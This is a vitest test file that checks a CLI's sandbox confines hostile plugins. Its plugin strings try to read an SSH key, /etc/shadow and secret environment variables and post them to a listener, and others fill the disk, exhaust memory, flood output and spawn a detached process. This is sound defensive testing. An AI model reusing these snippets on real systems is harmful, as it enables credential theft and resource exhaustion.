import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { noBubblewrap, skippedFor } from "../../support/processes/bubblewrap.js";
import { cli } from "../../support/processes/in-process.js";
import { freshFolder } from "../../support/projects/research-folder.js";
import { listener, writePlugins } from "./support.js";

/** Says what it finds to the one service that it may reach. */
const say = "const say = (value) => fetch(config.tell, { method: 'POST', body: JSON.stringify(value) });";
const attempt =
  "const attempt = async (act) => { try { return String(await act()).slice(0, 200); } catch (e) { return 'no: ' + (e.code ?? e.cause?.code ?? e.message); } };";

/** What each plugin does to get or to break something. Those that are expected to be left out say by which words. */
const hostile: Readonly<Record<string, { readonly hooks: string; readonly out?: RegExp }>> = {
  spy: {
    hooks: `async onReading({ paper }, { config, folder }) {
      ${say} ${attempt}
      await say({
        key: await attempt(() => fs.readFileSync(config.key, "utf8")),
        home: await attempt(() => fs.readdirSync(config.home).filter((name) => !name.startsWith("researches"))),
        passwd: await attempt(() => fs.readFileSync("/etc/shadow", "utf8")),
        proc: await attempt(() => fs.readdirSync("/proc").filter((name) => /^\\d+$/.test(name)).length),
        secret: await attempt(() => Object.values(process.env).filter((value) => /hunter2/.test(value)).length),
        other: await attempt(() => fetch(config.other).then((answer) => answer.text())),
        far: await attempt(() => fetch("http://192.0.2.1/").then((answer) => answer.status)),
        state: await attempt(() => fs.writeFileSync(folder + "/rrd.json", "{}")),
        added: await attempt(() => fs.writeFileSync(folder + "/planted", "x")),
        itself: await attempt(() => fs.appendFileSync(config.itself, "// more")),
      });
    }`,
  },
  child: {
    hooks: `onReading(_, { config }) {
      spawn("sleep", [config.seconds], { detached: true, stdio: "ignore" }).unref();
    }`,
  },
  globals: {
    hooks: `async onBeforeGen() {
      Object.prototype.toJSON = () => "hidden"; JSON.stringify = () => "gone"; Array.prototype.map = undefined;
      globalThis.fetch = undefined; process.exit = undefined; process.stdout.write = () => true;
      return "Words of the plugin that changes what is global.";
    }`,
    out: /./,
  },
  disk: {
    hooks: `async onReading(_, { config }) {
      ${say}
      let written = 0, code;
      try { for (let n = 0; ; n += 1) { fs.writeFileSync("/tmp/" + n, Buffer.alloc(4e6)); written += 4e6; } } catch (e) { code = e.code; }
      await say({ disk: written, code });
    }`,
  },
  loop: { hooks: "onReading() { for (;;); }", out: /took longer than 10 seconds/ },
  waits: {
    hooks: "onReport() { return new Promise(() => setInterval(() => 0, 1000)); }",
    out: /took longer than 10 seconds/,
  },
  throws: { hooks: 'onReading() { throw new Error("on purpose"); }', out: /failed: on purpose/ },
  exits: { hooks: "onReading() { process.exit(0); }", out: /exit code 0 and without an answer/ },
  floods: {
    hooks: 'onReading() { const line = "x".repeat(65536) + "\\n"; for (;;) try { fs.writeSync(1, line); } catch {} }',
    out: /printed more than 4 MB/,
  },
  megabyte: { hooks: 'onBeforeGen() { return "y".repeat(1_000_000); }', out: /not valid/ },
  memory: {
    hooks: "onReport() { const all = []; for (;;) all.push(Buffer.alloc(5e7, 1)); }",
    out: /used too much|without an answer|allocation|failed/i,
  },
  object: { hooks: 'onBeforeGen() { return { toString: "no text" }; }', out: /not valid/ },
  unknown: { hooks: "onEverything() {}", out: /has the hook 'onEverything'/ },
};

describe.skipIf(noBubblewrap !== undefined)(`hostile plugins${skippedFor(noBubblewrap)}`, () => {
  test("get nothing, stop nothing, and are each named once", async () => {
    const cwd = freshFolder();
    const [told, other] = [await listener(), await listener()];
    const home = join(cwd, "home");
    mkdirSync(join(home, ".ssh"), { recursive: true });
    writeFileSync(join(home, ".ssh", "id_ed25519"), "PRIVATE");
    const seconds = `4${process.pid}`;
    const config = {
      tell: told.address,
      other: other.address,
      key: join(home, ".ssh", "id_ed25519"),
      home,
      seconds,
      itself: join(cwd, "plugins", "spy.mjs"),
    };
    const entry = { config, allow: { hosts: [told.host] } };
    const fine =
      "onSuccess: ({ verdict }, { config }) => fetch(config.tell, { method: 'POST', body: JSON.stringify({ fine: verdict.verdict }) }),";
    const bodies = { ...Object.fromEntries(Object.entries(hostile).map(([name, { hooks }]) => [name, hooks])), fine };
    writePlugins(cwd, bodies, Object.fromEntries(Object.keys(bodies).map((name) => [name, entry])));
    const env = { HOME: home, MY_SECRET_TOKEN: "hunter2-and-more" };
    const { code, out } = await cli(["demo", "--json"], cwd, env);
    expect(code).toBe(0);
    const events = out
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(events.findLast(({ type }) => type === "run-ended")?.verdict.verdict).toBe("complete");

    const outs = events.filter(({ plugin }) => plugin !== undefined);
    const expected = Object.entries(hostile).filter(([, each]) => each.out !== undefined);
    expect(outs.map(({ plugin }) => plugin).toSorted()).toEqual(
      expected.map(([name]) => `./plugins/${name}.mjs`).toSorted(),
    );
    for (const [name, { out: words }] of expected)
      expect(outs.find(({ plugin }) => plugin === `./plugins/${name}.mjs`)?.message).toMatch(words ?? /./);

    const said = told.heard.map(({ body }) => JSON.parse(body));
    const spied = said.find(({ key }) => key !== undefined);
    expect(spied).toMatchObject({
      key: "no: ENOENT",
      passwd: "no: ENOENT",
      secret: "0",
      state: "no: EROFS",
      added: "no: EROFS",
      itself: "no: EROFS",
    });
    expect([spied.home, spied.other, spied.far]).toEqual([
      expect.not.stringContaining("ssh"),
      expect.stringMatching(/^no: |is not allowed/),
      expect.stringMatching(/^no: |^403$/),
    ]);
    expect(Number(spied.proc)).toBeLessThan(10);
    expect(other.heard).toEqual([]);
    const full = said.find(({ disk }) => disk !== undefined);
    expect([full.code, full.disk <= 64 * 2 ** 20]).toEqual(["ENOSPC", true]);
    expect(said.filter(({ fine: verdict }) => verdict !== undefined)).toEqual([{ fine: "complete" }]);
    expect(running(`sleep\0${seconds}\0`)).toEqual([]);
    expect(events.some(({ message }) => /refused connections/.test(message ?? ""))).toBe(true);
    const [project = ""] = readdirSync(join(cwd, "researches"));
    expect((await cli(["validate", project], cwd, env)).out).toContain("rrd.json is valid");
  }, 180_000);
});

/** Processes with this command line. */
const running = (line: string): string[] =>
  readdirSync("/proc").filter((pid) => {
    try {
      return /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, "utf8") === line;
    } catch {
      return false;
    }
  });
